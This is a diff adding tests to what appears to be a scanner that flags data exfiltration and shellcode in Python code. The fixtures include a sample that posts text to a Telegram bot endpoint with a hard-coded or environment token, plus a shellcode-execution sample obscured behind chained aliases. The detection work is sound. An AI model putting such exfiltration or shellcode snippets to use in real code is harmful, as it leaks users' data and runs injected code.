@@ -30,6 +30,14 @@ def test_a_token_that_a_caller_gives_is_asked_about(call: str, severity: Severit
     assert worst("exfiltration-address", VERIFY.format(call=call)) is severity
 
 
+def test_a_messenger_by_a_variable_of_whoever_runs_it() -> None:
+    text = "import os, requests\nAT = 'https://api.telegram.org/bot%s/sendMessage'\ndef tell(said):\n    {}\n"
+    own = "requests.post(AT % os.environ['SAMPLE_TOKEN'], data={'text': said})"
+    assert worst("exfiltration-address", text.format(own)) is Severity.LOW
+    built_in = own.replace("os.environ['SAMPLE_TOKEN']", "'12345678:AAE0'")
+    assert worst("exfiltration-address", text.format(built_in)) is Severity.HIGH
+
+
 SETTINGS = """
 import os, requests, merging
 def load(more):
@@ -148,6 +156,12 @@ ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_void_p.from_buffer(place)))()
 def test_the_processor_is_asked_what_it_is(code: str, fill: str, severity: Severity) -> None:
     text = MEMORY.format(before="from sample.more import other", code=code, fill=fill)
     assert worst("shellcode", text, "sample/__init__.py") is severity
+
+
+def test_names_that_stand_for_each_other_are_gone_through_once() -> None:
+    names = "\n".join(f"n{one} = n{one + 1}\nn{one} = n{one + 2}" for one in range(200))
+    text = MEMORY.format(before=names, code="n0", fill="place.write(n0)")
+    assert worst("shellcode", text, "sample/__init__.py") is Severity.CRITICAL
 
 
 COMMANDS = """
